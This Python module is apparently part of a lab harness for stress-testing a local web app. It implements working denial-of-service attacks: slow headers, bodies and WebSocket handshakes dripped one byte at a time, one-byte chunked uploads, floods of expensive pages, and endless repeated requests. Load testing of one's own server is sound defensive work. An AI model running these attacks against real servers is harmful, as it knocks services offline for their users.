"""HTTP requests: sent slowly, in tiny pieces, or for many expensive pages at once."""

import asyncio
from contextlib import suppress

from workshop.lab.attacks.target import (
    Attack,
    Connection,
    Target,
    connect,
    read_all,
    together,
)
from workshop.lab.rfc6455 import handshake

SLOW = 350
"""Slow connections at once: nearly as many as one address may have."""
PARALLEL = 120
CHUNKED = 30
DRIP_S = 2.0
"""The pause between two bytes of a slow client."""
IMPATIENCE_S = 0.05
"""How long a client waits for a page that it does not want."""
TINY_CHUNKS = b"1\r\na\r\n" * 10_000
NO_FILE = "/static/no-such-file"


def head(target: Target, request: str, *headers: str) -> bytes:
    """Return a request line and headers, without the empty line at their end."""
    host = f"Host: 127.0.0.1:{target.port}"
    return "\r\n".join([f"{request} HTTP/1.1", host, *headers, ""]).encode()


async def drip(connection: Connection) -> None:
    """Send one byte again and again, with pauses, until the server closes."""
    reader, writer = connection
    reading = asyncio.create_task(read_all(reader))
    try:
        while not reading.done():
            writer.write(b"a")
            await asyncio.wait((reading,), timeout=DRIP_S)
    finally:
        reading.cancel()
        writer.transport.abort()


def slow(kind: str) -> Attack:
    """Return the attack that begins many requests and sends the rest one byte at a time."""

    async def attack(target: Target) -> None:
        begin = {
            "headers": head(target, "GET /") + b"X-More: ",
            "bodies": head(target, "POST /guest/", "Content-Length: 60000", ""),
            "handshakes": handshake(target.port, target.room_path).removesuffix(b"\r\n")
            + b"X-More: ",
        }[kind]

        async def one_request(number: int) -> None:
            connection = await connect(target)
            connection[1].write(begin)
            await drip(connection)

        await together(SLOW, one_request)

    return attack


async def tiny_chunks(target: Target) -> None:
    """Send bodies in chunks of one byte."""
    begin = head(target, "POST /guest/", "Transfer-Encoding: chunked", "")

    async def one_request(number: int) -> None:
        reader, writer = await connect(target)
        try:
            writer.write(begin + TINY_CHUNKS)
            await read_all(reader)
        finally:
            writer.transport.abort()

    await together(CHUNKED, one_request)


def pages(patience: float | None) -> Attack:
    """Return the attack that asks for expensive pages, and leaves after `patience` seconds."""

    async def attack(target: Target) -> None:
        paths = (f"/g/{target.game}/", f"/g/{target.game}.txt", "/leaderboards/yacht/", "/")

        async def one_page(number: int) -> None:
            reader, writer = await connect(target)
            try:
                path = paths[number % len(paths)]
                writer.write(head(target, f"GET {path}", "Connection: close", ""))
                with suppress(TimeoutError):
                    await asyncio.wait_for(read_all(reader), patience)
            finally:
                writer.transport.abort()

        await together(PARALLEL, one_page)

    return attack


async def many_requests(target: Target) -> None:
    """Ask for a missing file again and again, on connections that stay open."""
    request = head(target, f"GET {NO_FILE}", "")

    async def one_connection(number: int) -> None:
        reader, writer = await connect(target)
        try:
            while True:
                writer.write(request)
                answer = await reader.readuntil(b"\r\n\r\n")
                length = answer.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
                await reader.readexactly(int(length))
        finally:
            writer.transport.abort()

    await together(PARALLEL, one_connection)


REQUESTS: dict[str, Attack] = {
    "slow headers": slow("headers"),
    "slow bodies": slow("bodies"),
    "slow handshakes": slow("handshakes"),
    "tiny chunks": tiny_chunks,
    "parallel pages": pages(None),
    "abandoned pages": pages(IMPATIENCE_S),
    "many requests": many_requests,
}
